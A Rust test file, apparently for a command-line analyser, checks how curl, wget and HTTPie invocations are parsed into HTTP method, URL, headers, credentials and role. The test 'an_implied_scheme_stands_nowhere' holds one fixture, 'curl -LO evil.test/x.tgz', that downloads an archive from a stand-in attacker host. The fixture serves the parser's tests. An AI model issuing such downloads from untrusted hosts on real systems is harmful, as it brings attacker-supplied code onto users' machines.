//! What curl, wget and HTTPie are told.

use super::super::tests::{commands, words};
use super::super::{Effects, effects};
use super::*;

fn one(line: &str) -> Request<'_> {
    let Effects { mut requests, .. } = effects(&words(line), &commands());
    assert_eq!(requests.len(), 1, "{line}");
    requests.remove(0)
}

/// Method, URLs, header lines, role.
fn shape(line: &str) -> String {
    let request = one(line);
    let urls: Vec<_> = request.urls.iter().map(Text::as_str).collect();
    let headers: Vec<_> = request.headers.iter().map(|h| format!("{}={}", h.name.as_str(), h.value.as_str())).collect();
    format!("{} {} [{}] {}", request.method(), urls.join(" "), headers.join(","), request.role())
}

#[test]
fn curl_in_all_its_spellings() {
    assert_eq!(shape("curl -sSLo f https://a.test/x"), "GET https://a.test/x [] download");
    assert_eq!(shape("curl --header=A:b -XPUT a.test/"), "PUT http://a.test/ [A=b] endpoint");
    assert_eq!(shape("curl -XPOST --url a.test -HA:b --header C:d"), "POST http://a.test [A=b,C=d] endpoint");
    assert_eq!(shape("curl a.test/ -d x=1"), "POST http://a.test/ [] endpoint");
    assert_eq!(shape("curl -G a.test/ -d x=1"), "GET http://a.test/ [] endpoint");
    assert_eq!(shape("curl -T f a.test/"), "PUT http://a.test/ [] endpoint");
    assert_eq!(shape("curl <base>/x -d y"), "POST <base>/x [] endpoint");
    assert_eq!(shape("curl -I a.test/"), "HEAD http://a.test/ [] download");
    assert_eq!(shape("curl -u me:pw localhost:8080/x"), "GET http://localhost:8080/x [] endpoint");
    assert_eq!(shape("curl -o out -H Authorization:x https://a.test/x.tgz"), "GET https://a.test/x.tgz [Authorization=x] download");
    assert_eq!(shape("curl [options] ... a.test/"), "GET http://a.test/ [] download");
    assert_eq!(
        shape("curl -x http://proxy.test -e http://ref.test -w %{url} a.test/"),
        "GET http://a.test/ [Referer=http://ref.test] download"
    );
}

#[test]
fn an_implied_scheme_stands_nowhere() {
    let request = one("curl -LO evil.test/x.tgz");
    let url = request.urls.first().unwrap();
    assert_eq!((url.as_str(), url.whole_span()), ("http://evil.test/x.tgz", Span::new(9, 24)));
}

#[test]
fn credentials_keep_their_place() {
    let request = one("curl --oauth2-bearer ra_ws_x -b k=ra_ws_y;l=m -b jar a.test/ --json {}");
    assert_eq!(request.bearer.as_ref().map(|t| t.whole_span()), Some(Span::new(21, 28)));
    assert_eq!(request.cookies.iter().map(Text::as_str).collect::<Vec<_>>(), ["k=ra_ws_y;l=m"]);
    assert!(request.body == RequestBody::Json && request.role() == Role::Endpoint);
    let request = one("http -A bearer -a ra_ws_x a.test/");
    assert_eq!(request.bearer.as_ref().map(Text::as_str), Some("ra_ws_x"));
}

#[test]
fn next_begins_another_request() {
    let line = "curl -H A:b a.test/ --next -XPOST c.test/";
    let Effects { requests, .. } = effects(&words(line), &commands());
    let shape: Vec<_> = requests.iter().map(|r| (r.method(), r.urls.len(), r.headers.len())).collect();
    assert_eq!(shape, [("GET", 1, 1), ("POST", 1, 0)]);
}

#[test]
fn wget_and_httpie() {
    assert_eq!(shape("wget -qO- https://a.test/x"), "GET https://a.test/x [] download");
    assert_eq!(shape("wget -nv --header=A:b --post-data=x a.test"), "POST http://a.test [A=b] endpoint");
    assert_eq!(shape("http :8080/x A:b q==1"), "GET http://localhost:8080/x [A=b] endpoint");
    assert_eq!(shape("https PUT a.test/x a=b"), "PUT https://a.test/x [] endpoint");
    assert_eq!(shape("http a.test/x a:=1"), "POST http://a.test/x [] endpoint");
}
